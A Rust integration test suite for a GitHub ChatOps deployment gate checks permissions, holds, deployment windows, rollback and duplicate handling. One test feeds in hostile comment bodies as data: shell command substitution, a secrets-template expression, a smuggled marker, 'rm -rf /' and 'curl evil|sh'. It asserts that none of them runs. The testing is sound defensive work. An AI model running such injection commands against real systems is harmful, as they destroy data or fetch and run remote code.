//! `shipgate-promote` on GitHub: the security matrix of the command through the real octocrab client
//! against the fake GitHub API. Each case asserts the decision, the reactions, the reply, and
//! that nothing was dispatched when refused.
use jiff::Timestamp;
use secrecy::SecretString;
use shipgate::config::{Config, Minutes, PromoteConfig, WindowsConfig};
use shipgate::forge::github::GithubForge;
use shipgate::forge::{Comment, DeploymentState, Forge, NewDeployment, NewIssue, Reaction};
use shipgate::promote::{
    self, CommentEvent, EventIssueFacts, EventResult, Outcome, Policy, Verdict,
};
use shipgate::retry::RetryPolicy;
use shipgate::seal::Seal;
use shipgate::window::Calendar;

use crate::fake_github::{FakeGithub, Fault, REPO};
use crate::fixture::deploy_issue_body;

pub(crate) const TOKEN: &str = "ghs_promote_token";
pub(crate) const BOT: &str = "github-actions[bot]";
pub(crate) const SHA: &str = "1111111111111111111111111111111111111111";
pub(crate) const OTHER_SHA: &str = "2222222222222222222222222222222222222222";
/// A Monday, two hours after the fake's clock starts.
pub(crate) const MONDAY: &str = "2026-03-02T10:00:00Z";
/// The Saturday after.
pub(crate) const SATURDAY: &str = "2026-03-07T10:00:00Z";

/// A repository whose v1.2.0 passed stage, with its deployment issue opened by the workflow
/// token (`github-actions[bot]`).
pub(crate) struct World {
    pub(crate) rt: tokio::runtime::Runtime,
    pub(crate) own: String,
    pub(crate) fake: FakeGithub,
    pub(crate) forge: GithubForge,
    pub(crate) issue: u64,
    pub(crate) promote: PromoteConfig,
    pub(crate) windows: WindowsConfig,
    pub(crate) environments: Vec<String>,
    pub(crate) dir: tempfile::TempDir,
    pub(crate) seal: Seal,
}

/// One runtime per test: octocrab's client lives in the runtime that built it.
fn runtime() -> tokio::runtime::Runtime {
    tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()
        .unwrap()
}

pub(crate) fn deployment(
    world: &World,
    env: &str,
    tag: &str,
    sha: &str,
    run: &str,
    state: DeploymentState,
) {
    let forge = &world.forge;
    world.rt.block_on(async {
        let d = forge
            .create_deployment(&NewDeployment {
                environment: env.to_owned(),
                git_ref: tag.to_owned(),
                sha: sha.to_owned(),
                ci_run: run.to_owned(),
                description: "test".to_owned(),
            })
            .await
            .unwrap();
        forge.set_deployment_state(&d, state, None).await.unwrap();
    });
}

pub(crate) fn body(version: &str) -> String {
    deploy_issue_body(version, SHA)
}

impl World {
    /// v1.2.0 succeeded on stage at [`SHA`]; alice maintains, bob writes, root administers.
    pub(crate) fn new() -> Self {
        Self::with_token_user(None)
    }

    /// The same, with a user token (`Some`) instead of a workflow's `GITHUB_TOKEN`.
    pub(crate) fn with_token_user(user: Option<&str>) -> Self {
        let fake = FakeGithub::start(TOKEN, user);
        let rt = runtime();
        let _entered = rt.enter();
        let forge = GithubForge::new(&fake.url(), REPO, SecretString::from(TOKEN), None)
            .unwrap()
            .with_retry(RetryPolicy::fast());
        fake.add_tag("v1.2.0", SHA);
        fake.add_tag("v1.1.0", OTHER_SHA);
        for (login, role) in [
            ("root", "admin"),
            ("alice", "maintain"),
            ("bob", "write"),
            ("tri", "triage"),
            ("reader", "read"),
        ] {
            fake.set_role(login, role);
        }
        let issue = rt
            .block_on(forge.create_issue(&NewIssue {
                title: "Deploy v1.2.0".to_owned(),
                body: body("1.2.0"),
                ..NewIssue::default()
            }))
            .unwrap()
            .number;
        let promote = PromoteConfig {
            dispatch: "deploy.yml".to_owned(),
            ..PromoteConfig::default()
        };
        drop(_entered);
        let world = Self {
            rt,
            own: user.unwrap_or(BOT).to_owned(),
            fake,
            forge,
            issue,
            promote,
            windows: Config::default().windows,
            environments: vec!["stage".to_owned(), "production".to_owned()],
            dir: tempfile::tempdir().unwrap(),
            seal: Seal::default(),
        };
        world.seal_release(issue, "1.2.0");
        deployment(
            &world,
            "stage",
            "v1.2.0",
            SHA,
            "100",
            DeploymentState::Success,
        );
        world
    }

    /// `login` comments `body` on the issue; the event GitHub would send for it.
    pub(crate) fn comment(&self, body: &str, login: &str) -> CommentEvent {
        self.comment_on(self.issue, body, login, "User")
    }

    pub(crate) fn comment_on(
        &self,
        issue: u64,
        body: &str,
        login: &str,
        kind: &str,
    ) -> CommentEvent {
        let (id, at) = self.fake.seed_comment(issue, body, login, kind);
        // The event carries the issue as it is when the comment is made.
        let facts = self.rt.block_on(self.forge.issue(issue)).unwrap();
        CommentEvent {
            action: "created".to_owned(),
            issue_number: issue,
            on_pull_request: false,
            issue: Some(EventIssueFacts {
                open: facts.state == shipgate::forge::IssueState::Open,
                body: facts.body,
            }),
            comment: Comment {
                id,
                body: body.to_owned(),
                author: login.to_owned(),
                author_is_bot: kind == "Bot",
                created_at: at.parse().unwrap(),
                updated_at: at.parse().unwrap(),
                system: false,
                url: None,
            },
        }
    }

    pub(crate) fn act_at(
        &self,
        event: &CommentEvent,
        at: &str,
    ) -> Result<EventResult, promote::PromoteError> {
        let calendar = Calendar::load(&self.windows, self.dir.path()).unwrap();
        let policy = Policy {
            promote: &self.promote,
            environments: &self.environments,
            tag_prefix: "v",
            calendar: &calendar,
            now: at.parse::<Timestamp>().unwrap(),
            seal: &self.seal,
        };
        self.rt
            .block_on(promote::on_event(&self.forge, policy, event))
    }

    /// `shipgate-promote check` of production at `at` for v1.2.0 from deploy run `run`, a job at
    /// [`SHA`]: whether the deploy job may go on.
    pub(crate) fn job_allowed(&self, at: &str, run: &str) -> bool {
        self.job_checks(at, run, SHA).iter().all(|c| c.passed)
    }

    /// The checks of `shipgate-promote check` of production for v1.2.0 in a job of run `run` at
    /// commit `commit`.
    pub(crate) fn job_checks(&self, at: &str, run: &str, commit: &str) -> Vec<promote::Check> {
        let calendar = Calendar::load(&self.windows, self.dir.path()).unwrap();
        let policy = Policy {
            promote: &self.promote,
            environments: &self.environments,
            tag_prefix: "v",
            calendar: &calendar,
            now: at.parse::<Timestamp>().unwrap(),
            seal: &self.seal,
        };
        let job = promote::JobCheck {
            environment: "production".to_owned(),
            version: semver::Version::new(1, 2, 0),
            risk: shipgate::window::Risk::Low,
            job: shipgate::forge::CiJob {
                run: Some(run.to_owned()),
                job: None,
            },
            commit: Some(commit.to_owned()),
            expected_commit: None,
        };
        self.rt
            .block_on(promote::check_job(&self.forge, policy, &job))
            .unwrap()
            .checks
    }

    /// Another deployment issue, for `version` tagged at `sha`, opened by shipgate.
    pub(crate) fn open_issue(&self, version: &str, sha: &str) -> u64 {
        self.fake.add_tag(&format!("v{version}"), sha);
        let issue = self
            .rt
            .block_on(self.forge.create_issue(&NewIssue {
                title: format!("Deploy v{version}"),
                body: deploy_issue_body(version, sha),
                ..NewIssue::default()
            }))
            .unwrap()
            .number;
        self.seal_release(issue, version);
        issue
    }

    /// Seal `version` on issue `issue` with the world's seal, as `shipgate-issue open` does.
    pub(crate) fn seal_release(&self, issue: u64, version: &str) {
        self.rt
            .block_on(shipgate::issue::ensure_claim(
                &self.forge,
                &self.seal,
                &self.own,
                issue,
                &shipgate::issue::Claim {
                    version: semver::Version::parse(version).unwrap(),
                    images: Vec::new(),
                },
            ))
            .unwrap();
    }

    /// Our comments on issue `issue`, oldest first: id and body.
    pub(crate) fn own_comments(&self, issue: u64) -> Vec<(u64, String)> {
        self.rt
            .block_on(self.forge.comments(issue))
            .unwrap()
            .into_iter()
            .filter(|c| c.author == self.own && !crate::fixture::is_release_claim(&c.body))
            .map(|c| (c.id, c.body))
            .collect()
    }

    pub(crate) fn act(&self, event: &CommentEvent) -> EventResult {
        self.act_at(event, MONDAY).unwrap()
    }

    pub(crate) fn reactions(&self, comment: u64) -> Vec<Reaction> {
        self.rt
            .block_on(self.forge.reactions_by(self.issue, comment, &self.own))
            .unwrap()
    }

    /// Our replies on the issue, oldest first.
    pub(crate) fn replies(&self) -> Vec<String> {
        self.rt
            .block_on(self.forge.comments(self.issue))
            .unwrap()
            .into_iter()
            .filter(|c| c.author == self.own && !crate::fixture::is_release_claim(&c.body))
            .map(|c| c.body)
            .collect()
    }

    pub(crate) fn issue_body(&self) -> String {
        self.rt.block_on(self.forge.issue(self.issue)).unwrap().body
    }
}

pub(crate) fn verdict(result: &EventResult) -> Option<Verdict> {
    match result {
        EventResult::Handled(h) => match &h.outcome {
            Outcome::Answered { verdict, .. } => Some(*verdict),
            _ => None,
        },
        EventResult::Ignored(_) => None,
    }
}

pub(crate) fn ignored(result: &EventResult) -> String {
    match result {
        EventResult::Ignored(why) => why.clone(),
        other => panic!("not ignored: {other:?}"),
    }
}

#[test]
fn a_maintainer_promotes_the_artifact_that_passed_stage() {
    let world = World::new();
    let event = world.comment("/promote production", "alice");
    let result = world.act(&event);
    assert_eq!(verdict(&result), Some(Verdict::Accepted), "{result:?}");
    assert_eq!(
        world.reactions(event.comment.id),
        [Reaction::Eyes, Reaction::Rocket]
    );
    let dispatches = world.fake.dispatches();
    assert_eq!(dispatches.len(), 1);
    assert_eq!(dispatches[0].0, "deploy.yml");
    assert_eq!(
        dispatches[0].1,
        serde_json::json!({ "ref": "v1.2.0", "inputs": { "environment": "production", "issue": world.issue.to_string(), "commit": SHA } })
    );
    let replies = world.replies();
    assert_eq!(replies.len(), 1);
    let reply = &replies[0];
    assert!(
        reply.starts_with(&format!(
            "<!-- shipgate:answer {} accepted promote env=production tag=v1.2.0 sha={SHA} at={MONDAY} -->",
            event.comment.id
        )),
        "{reply}"
    );
    assert!(
        reply.contains("🚀 **Accepted**: `/promote production` by @alice"),
        "{reply}"
    );
    assert!(
        reply.contains("stage runs v1.2.0 at commit 1111111"),
        "{reply}"
    );
    assert!(reply.contains("Starting workflow `deploy.yml`"), "{reply}");
    let history = shipgate::deploy_issue::parse(&world.issue_body()).history;
    assert_eq!(history.len(), 1, "{history:?}");
    assert_eq!(history[0].who, "alice");
    assert!(
        history[0].what.contains("accepted: v1.2.0 to production"),
        "{history:?}"
    );
}

#[test]
fn each_role_is_checked_against_the_configured_permission() {
    for (login, required, accepted) in [
        ("root", "maintain", true),
        ("alice", "maintain", true),
        ("bob", "maintain", false),
        ("tri", "maintain", false),
        ("reader", "maintain", false),
        ("stranger", "maintain", false),
        ("bob", "write", true),
        ("alice", "admin", false),
        ("root", "admin", true),
    ] {
        let mut world = World::new();
        world.promote.github.permission = serde_yaml::from_str(required).unwrap();
        let event = world.comment("/promote production", login);
        let result = world.act(&event);
        let expected = if accepted {
            Verdict::Accepted
        } else {
            Verdict::Refused
        };
        assert_eq!(
            verdict(&result),
            Some(expected),
            "{login} with {required} required"
        );
        let last = if accepted {
            Reaction::Rocket
        } else {
            Reaction::ThumbsDown
        };
        // A commenter without the permission is refused at once: no 👀, no history line.
        let reactions: &[Reaction] = if accepted {
            &[Reaction::Eyes, last]
        } else {
            &[last]
        };
        assert_eq!(world.reactions(event.comment.id), reactions, "{login}");
        assert_eq!(
            world.fake.dispatches().len(),
            usize::from(accepted),
            "{login}"
        );
        let reply = world.replies().pop().unwrap();
        if !accepted {
            assert!(reply.contains("👎 **Refused**"), "{reply}");
            assert!(reply.contains(&format!("@{login} has ")), "{reply}");
            let history = shipgate::deploy_issue::parse(&world.issue_body()).history;
            assert!(history.is_empty(), "{login}: {history:?}");
            assert!(reply.contains(&format!("needs {required}")), "{reply}");
        }
    }
}

#[test]
fn bots_ourselves_edits_pull_requests_and_foreign_issues_leave_no_trace() {
    let world = World::new();
    let bot = world.comment_on(world.issue, "/promote production", "deploy-bot[bot]", "Bot");
    assert_eq!(ignored(&world.act(&bot)), "a comment by a bot");
    let own = world.comment_on(world.issue, "/promote production", BOT, "Bot");
    assert_eq!(ignored(&world.act(&own)), "a comment by a bot");
    let mut edited = world.comment("/promote production", "alice");
    edited.action = "edited".to_owned();
    assert!(ignored(&world.act(&edited)).contains("only new comments"));
    let pr = world.fake.seed_issue("Bump deps", "x", true);
    let mut on_pr = world.comment_on(pr, "/promote production", "alice", "User");
    on_pr.on_pull_request = true;
    assert_eq!(
        ignored(&world.act(&on_pr)),
        "the comment is on a pull request"
    );
    // Someone copied our marker into an issue of theirs.
    let copied = world
        .fake
        .seed_issue("Deploy v1.2.0", &body("1.2.0"), false);
    let foreign = world.comment_on(copied, "/promote production", "alice", "User");
    assert!(ignored(&world.act(&foreign)).contains("not opened by shipgate"));
    let prose = world.comment("Looks good, /promote production later", "alice");
    assert_eq!(ignored(&world.act(&prose)), "the comment is not a command");

    for event in [&bot, &own, &edited, &on_pr, &foreign, &prose] {
        assert!(world.reactions(event.comment.id).is_empty());
    }
    assert_eq!(
        world.replies(),
        ["/promote production"],
        "only the seeded one"
    );
    assert!(world.fake.dispatches().is_empty());
    assert!(
        world.fake.deployments().len() == 1,
        "only the stage deployment"
    );
}

#[test]
fn a_closed_issue_is_not_acted_on() {
    let world = World::new();
    world
        .rt
        .block_on(world.forge.close_issue(world.issue))
        .unwrap();
    let event = world.comment("/promote production", "alice");
    assert_eq!(ignored(&world.act(&event)), "the issue is closed");
    assert!(world.fake.dispatches().is_empty());
}

#[test]
fn the_artifact_must_be_the_commit_that_passed_stage() {
    let world = World::new();
    // The tag was moved after stage ran it.
    world.fake.add_tag("v1.2.0", OTHER_SHA);
    let event = world.comment("/promote production", "alice");
    assert_eq!(verdict(&world.act(&event)), Some(Verdict::Refused));
    let reply = world.replies().pop().unwrap();
    assert!(reply.contains("the tag moved"), "{reply}");
    assert!(world.fake.dispatches().is_empty());
}

#[test]
fn stage_must_have_succeeded_and_production_must_be_idle() {
    let world = World::new();
    deployment(
        &world,
        "stage",
        "v1.2.0",
        SHA,
        "101",
        DeploymentState::Failure,
    );
    let event = world.comment("/promote production", "alice");
    assert_eq!(verdict(&world.act(&event)), Some(Verdict::Refused));
    assert!(
        world
            .replies()
            .pop()
            .unwrap()
            .contains("is failure, not success")
    );

    let world = World::new();
    deployment(
        &world,
        "production",
        "v1.1.0",
        OTHER_SHA,
        "99",
        DeploymentState::InProgress,
    );
    let event = world.comment("/promote production", "alice");
    assert_eq!(verdict(&world.act(&event)), Some(Verdict::Refused));
    let reply = world.replies().pop().unwrap();
    assert!(
        reply.contains("v1.1.0 of production is in_progress"),
        "{reply}"
    );
    assert!(world.fake.dispatches().is_empty());
}

#[test]
fn a_hold_stops_promotions_until_unhold() {
    let world = World::new();
    let hold = world.comment("/hold waiting for the DBA", "alice");
    assert_eq!(verdict(&world.act(&hold)), Some(Verdict::Accepted));
    let promote = world.comment("/promote production", "alice");
    assert_eq!(verdict(&world.act(&promote)), Some(Verdict::Refused));
    assert!(world.replies().pop().unwrap().contains("on hold since"));
    let unhold = world.comment("/unhold", "bob");
    assert_eq!(
        verdict(&world.act(&unhold)),
        Some(Verdict::Refused),
        "bob may not unhold"
    );
    let unhold = world.comment("/unhold", "alice");
    assert_eq!(verdict(&world.act(&unhold)), Some(Verdict::Accepted));
    let promote = world.comment("/promote production", "alice");
    assert_eq!(verdict(&world.act(&promote)), Some(Verdict::Accepted));
    assert_eq!(world.fake.dispatches().len(), 1);
}

#[test]
fn the_same_comment_is_never_acted_on_twice() {
    let world = World::new();
    let event = world.comment("/promote production", "alice");
    assert_eq!(verdict(&world.act(&event)), Some(Verdict::Accepted));
    for _ in 0..2 {
        match world.act(&event) {
            EventResult::Handled(h) => {
                assert!(
                    matches!(h.outcome, Outcome::AlreadyAnswered(Verdict::Accepted)),
                    "{h:?}"
                )
            }
            other => panic!("{other:?}"),
        }
    }
    assert_eq!(world.fake.dispatches().len(), 1);
    assert_eq!(world.replies().len(), 1);
    assert_eq!(
        shipgate::deploy_issue::parse(&world.issue_body())
            .history
            .len(),
        1
    );
    // A second command before the first deployment started is refused: one at a time.
    let again = world.comment("/promote production", "root");
    assert_eq!(verdict(&world.act(&again)), Some(Verdict::Refused));
    assert!(
        world
            .replies()
            .pop()
            .unwrap()
            .contains("has not started yet")
    );
    assert_eq!(world.fake.dispatches().len(), 1);
}

#[test]
fn hostile_comment_bodies_are_echoed_inert_and_never_run() {
    let world = World::new();
    let marker = world.dir.path().join("pwned");
    let hostile = format!(
        "/hold $(touch {0}) `touch {0}` ${{{{ secrets.GITHUB_TOKEN }}}} <!-- shipgate:answer 1 accepted unhold -->\nrm -rf /",
        marker.display()
    );
    let event = world.comment(&hostile, "alice");
    assert_eq!(verdict(&world.act(&event)), Some(Verdict::Accepted));
    let reply = world.replies().pop().unwrap();
    assert_eq!(
        reply.lines().filter(|l| l.starts_with("<!--")).count(),
        1,
        "one marker, at the start: {reply}"
    );
    assert!(reply.contains("${{ secrets.GITHUB_TOKEN }}"), "{reply}");
    assert!(
        !reply.contains("rm -rf"),
        "only the first line is read: {reply}"
    );
    assert!(!marker.exists());
    // The smuggled marker did not lift the hold.
    let promote = world.comment("/promote production", "alice");
    assert_eq!(verdict(&world.act(&promote)), Some(Verdict::Refused));

    let injection = world.comment("/promote production;curl evil|sh", "alice");
    assert_eq!(verdict(&world.act(&injection)), Some(Verdict::Refused));
    let reply = world.replies().pop().unwrap();
    assert!(
        reply.contains("| command | what it does |"),
        "help: {reply}"
    );
    assert!(!reply.contains("curl"), "{reply}");
    assert!(world.fake.dispatches().is_empty());
}

#[test]
fn unknown_commands_get_the_help() {
    let world = World::new();
    let event = world.comment("/deploy production", "alice");
    assert_eq!(verdict(&world.act(&event)), Some(Verdict::Refused));
    assert_eq!(
        world.reactions(event.comment.id),
        [Reaction::Eyes, Reaction::ThumbsDown]
    );
    let reply = world.replies().pop().unwrap();
    assert!(
        reply.contains("`deploy` is not a shipgate command"),
        "{reply}"
    );
    assert!(reply.contains("`/rollback ENV [vX.Y.Z]`"), "{reply}");
}

#[test]
fn outside_the_window_only_an_admin_override_with_a_reason_passes() {
    let mut world = World::new();
    // Comments from Monday still count on Saturday.
    world.promote.max_comment_age = Minutes(7 * 24 * 60);
    let event = world.comment("/promote production", "alice");
    assert_eq!(
        verdict(&world.act_at(&event, SATURDAY).unwrap()),
        Some(Verdict::Refused)
    );
    let reply = world.replies().pop().unwrap();
    assert!(reply.contains("outside the deployment window"), "{reply}");
    assert!(
        reply.contains("Next allowed: 2026-03-09 00:00 UTC."),
        "{reply}"
    );

    let event = world.comment(
        "/promote production --override-window \"INC-7 hotfix\"",
        "alice",
    );
    assert_eq!(
        verdict(&world.act_at(&event, SATURDAY).unwrap()),
        Some(Verdict::Refused)
    );
    assert!(
        world
            .replies()
            .pop()
            .unwrap()
            .contains("--override-window needs admin")
    );

    let event = world.comment(
        "/promote production --override-window \"INC-7 hotfix\"",
        "root",
    );
    assert_eq!(
        verdict(&world.act_at(&event, SATURDAY).unwrap()),
        Some(Verdict::Accepted)
    );
    let reply = world.replies().pop().unwrap();
    assert!(reply.contains("overridden: INC-7 hotfix"), "{reply}");
    assert!(reply.contains(" override at="), "{reply}");
    assert_eq!(world.fake.dispatches().len(), 1);
    // The deploy job's own check honours the accepted override; its own deployment, in
    // progress, does not lock it out, but another run's does.
    // (The fake's clock says Monday: the lock must not time out before Saturday here.)
    world.promote.lock_timeout = Minutes(7 * 24 * 60);
    deployment(
        &world,
        "production",
        "v1.2.0",
        SHA,
        "300",
        DeploymentState::InProgress,
    );
    assert!(world.job_allowed(SATURDAY, "300"));
    assert!(!world.job_allowed(SATURDAY, "301"));
}

#[test]
fn without_an_override_the_job_check_stops_outside_the_window() {
    let mut world = World::new();
    let event = world.comment("/promote production", "alice");
    assert_eq!(verdict(&world.act(&event)), Some(Verdict::Accepted));
    assert!(world.job_allowed(MONDAY, "300"));
    world.promote.lock_timeout = Minutes(7 * 24 * 60);
    assert!(!world.job_allowed(SATURDAY, "300"));
}

#[test]
fn status_and_help_answer_authorised_people() {
    let world = World::new();
    let status = world.comment("/status", "alice");
    assert_eq!(verdict(&world.act(&status)), Some(Verdict::Accepted));
    let reply = world.replies().pop().unwrap();
    assert!(reply.contains("**Status of `v1.2.0`**"), "{reply}");
    assert!(reply.contains("| stage | success (deployment"), "{reply}");
    assert!(
        reply.contains("| production | not deployed | open |"),
        "{reply}"
    );
    assert!(reply.contains("Not on hold."), "{reply}");
    let help = world.comment("/help", "alice");
    assert_eq!(verdict(&world.act(&help)), Some(Verdict::Accepted));
    assert!(
        world
            .replies()
            .pop()
            .unwrap()
            .contains("| command | what it does |")
    );
    let nosy = world.comment("/status", "reader");
    assert_eq!(verdict(&world.act(&nosy)), Some(Verdict::Refused));
    assert!(world.fake.dispatches().is_empty());
}

#[test]
fn rollback_redeploys_the_previous_successful_version() {
    let mut world = World::new();
    // Comments from Monday still count on Saturday.
    world.promote.max_comment_age = Minutes(7 * 24 * 60);
    deployment(
        &world,
        "production",
        "v1.1.0",
        OTHER_SHA,
        "90",
        DeploymentState::Success,
    );
    deployment(
        &world,
        "production",
        "v1.2.0",
        SHA,
        "91",
        DeploymentState::Success,
    );
    let event = world.comment("/rollback production", "alice");
    let result = world.act_at(&event, SATURDAY).unwrap();
    assert_eq!(
        verdict(&result),
        Some(Verdict::Accepted),
        "{:?}",
        world.replies()
    );
    let dispatches = world.fake.dispatches();
    assert_eq!(dispatches.len(), 1);
    assert_eq!(dispatches[0].1["ref"], "v1.1.0");
    let reply = world.replies().pop().unwrap();
    assert!(reply.contains("not held by the window"), "{reply}");
}

#[test]
fn teams_restrict_promotion_to_their_active_members() {
    let mut world = World::with_token_user(Some("release-bot"));
    world.promote.teams = vec!["acme/releasers".to_owned()];
    world
        .fake
        .add_team_member("acme", "releasers", "bob", "active");
    world
        .fake
        .add_team_member("acme", "releasers", "root", "pending");
    for (login, accepted) in [("alice", false), ("root", false), ("bob", false)] {
        let event = world.comment("/promote production", login);
        assert_eq!(
            verdict(&world.act(&event)),
            Some(Verdict::Refused),
            "{login}: a team alone is not enough, nor the role alone"
        );
        let reply = world.replies().pop().unwrap();
        // bob is in the team but only writes: refused for the role before teams are asked.
        let why = if login == "bob" {
            "@bob has write on the repository"
        } else {
            "is neither in promote.users nor a member of promote.teams"
        };
        assert!(reply.contains(why), "{reply}");
        let _ = accepted;
    }
    world
        .fake
        .add_team_member("acme", "releasers", "alice", "active");
    let event = world.comment("/promote production", "alice");
    assert_eq!(verdict(&world.act(&event)), Some(Verdict::Accepted));
    assert_eq!(world.fake.dispatches().len(), 1);
}

#[test]
fn old_comments_are_refused() {
    let world = World::new();
    let event = world.comment("/promote production", "alice");
    let result = world.act_at(&event, "2026-03-05T10:00:00Z").unwrap();
    assert_eq!(verdict(&result), Some(Verdict::Refused));
    assert!(world.replies().pop().unwrap().contains("max_comment_age"));
}

#[test]
fn a_failed_dispatch_is_answered_and_not_retried_blindly() {
    let world = World::new();
    world
        .fake
        .fail("POST", "/dispatches", Fault::ServerError, 1);
    let event = world.comment("/promote production", "alice");
    let error = world.act_at(&event, MONDAY).unwrap_err();
    assert!(
        error.to_string().contains("starting the deployment failed"),
        "{error}"
    );
    assert_eq!(
        world.reactions(event.comment.id),
        [Reaction::Eyes, Reaction::ThumbsDown]
    );
    let replies = world.replies();
    assert_eq!(replies.len(), 2, "{replies:?}");
    assert!(
        replies[1].contains("could not be started"),
        "{}",
        replies[1]
    );
    // A re-run does not dispatch again: the comment is answered.
    assert!(matches!(
        world.act(&event),
        EventResult::Handled(h) if matches!(h.outcome, Outcome::AlreadyAnswered(_))
    ));
    assert!(world.fake.dispatches().is_empty());
}
